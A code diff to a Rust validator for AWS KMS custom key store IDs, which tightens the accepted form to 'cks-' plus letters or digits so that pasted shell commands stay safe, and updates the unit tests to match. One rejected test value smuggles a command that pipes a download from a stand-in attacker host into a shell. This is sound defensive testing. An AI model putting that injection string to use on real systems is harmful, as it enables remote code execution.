@@ -6,15 +6,14 @@ use serde::Serialize;
 
 use crate::text;
 
-/// The ID of a custom key store, such as `cks-1234567890abcdef0`.
+/// The ID of a custom key store, such as `cks-1234567890abcdef0`: `cks-` and 1 to 60 letters or digits.
 ///
 /// KMS's own model asks for 1 to 64 characters and gives no pattern
-/// (<https://docs.aws.amazon.com/kms/latest/APIReference/API_DisconnectCustomKeyStore.html>).
-/// Here they must also be printable ASCII without spaces: the ID becomes a FIFO message group, which takes no
-/// other (<https://docs.aws.amazon.com/sns/latest/api/API_Publish.html>).
+/// (<https://docs.aws.amazon.com/kms/latest/APIReference/API_DisconnectCustomKeyStore.html>); all of AWS's examples have
+/// this form. Nothing in such an ID means anything to a shell, so the commands in a notice are safe to paste.
 #[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
 #[serde(transparent)]
-#[cfg_attr(feature = "schema", derive(schemars::JsonSchema), schemars(extend("pattern" = "^[!-~]{1,64}$")))]
+#[cfg_attr(feature = "schema", derive(schemars::JsonSchema), schemars(extend("pattern" = "^cks-[0-9A-Za-z]{1,60}$")))]
 pub struct KeyStoreId(String);
 
 impl KeyStoreId {
@@ -29,10 +28,16 @@ impl FromStr for KeyStoreId {
     type Err = InvalidId;
 
     fn from_str(text: &str) -> Result<Self, InvalidId> {
+        let Some(unique) = text.strip_prefix("cks-") else {
+            return Err(if text.is_empty() {
+                InvalidId::Empty
+            } else {
+                InvalidId::Form
+            });
+        };
         match text.chars().count() {
-            0 => Err(InvalidId::Empty),
             count if count > 64 => Err(InvalidId::TooLong(count)),
-            _ if !text.chars().all(|c| c.is_ascii_graphic()) => Err(InvalidId::Characters),
+            _ if unique.is_empty() || !unique.chars().all(|c| c.is_ascii_alphanumeric()) => Err(InvalidId::Form),
             _ => Ok(Self(text.to_owned())),
         }
     }
@@ -44,7 +49,7 @@ impl fmt::Display for KeyStoreId {
     }
 }
 
-/// Why a text is no custom key store ID.
+/// Why a text is not a custom key store ID.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
 pub enum InvalidId {
     /// No characters.
@@ -53,9 +58,9 @@ pub enum InvalidId {
     /// More than 64 characters.
     #[error("has {0} characters, and at most 64 are allowed")]
     TooLong(usize),
-    /// Something else than printable ASCII.
-    #[error("holds a space, a control character or a character outside ASCII")]
-    Characters,
+    /// Another form: a name, an ARN, a list, something in quotes.
+    #[error("is not an ID, which is cks- and 1 to 60 letters or digits")]
+    Form,
 }
 
 /// The ARN of the SNS topic of the notices, standard or FIFO, in any Region.
@@ -179,16 +184,22 @@ mod tests {
     use super::*;
 
     #[test]
-    fn a_key_store_id_is_1_to_64_printable_ascii_characters() {
-        for good in ["cks-1234567890abcdef0", "x", &"a".repeat(64)] {
+    fn key_store_id_is_cks_and_letters_or_digits() {
+        for good in ["cks-1234567890abcdef0", "cks-x", &format!("cks-{}", "a".repeat(60))] {
             assert_eq!(good.parse::<KeyStoreId>().unwrap().as_str(), good);
         }
         for (bad, why) in [
             (String::new(), InvalidId::Empty),
-            ("a".repeat(65), InvalidId::TooLong(65)),
-            ("cks 1".into(), InvalidId::Characters),
-            ("cks-1\n".into(), InvalidId::Characters),
-            ("cks-é".into(), InvalidId::Characters),
+            (format!("cks-{}", "a".repeat(61)), InvalidId::TooLong(65)),
+            ("cks-".into(), InvalidId::Form),
+            ("payments-hsm".into(), InvalidId::Form),
+            ("CKS-1".into(), InvalidId::Form),
+            ("\"cks-1\"".into(), InvalidId::Form),
+            ("cks-1;cks-2".into(), InvalidId::Form),
+            ("cks-1;curl${IFS}evil.example|sh".into(), InvalidId::Form),
+            ("cks-1\n".into(), InvalidId::Form),
+            ("cks-é".into(), InvalidId::Form),
+            (" cks-1".into(), InvalidId::Form),
         ] {
             assert_eq!(bad.parse::<KeyStoreId>(), Err(why), "{bad:?}");
         }
